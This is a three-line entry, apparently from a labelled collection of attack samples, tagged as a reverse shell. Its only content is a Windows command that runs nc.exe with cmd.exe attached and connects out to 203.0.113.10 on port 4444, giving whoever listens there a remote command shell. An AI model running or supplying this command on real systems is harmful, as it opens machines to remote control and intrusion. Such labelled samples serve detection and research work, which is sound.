# description: Connects back with nc.exe and hands the connection cmd.exe.
# family: reverse-shell
C:\Users\Public\nc.exe -e cmd.exe 203.0.113.10 4444
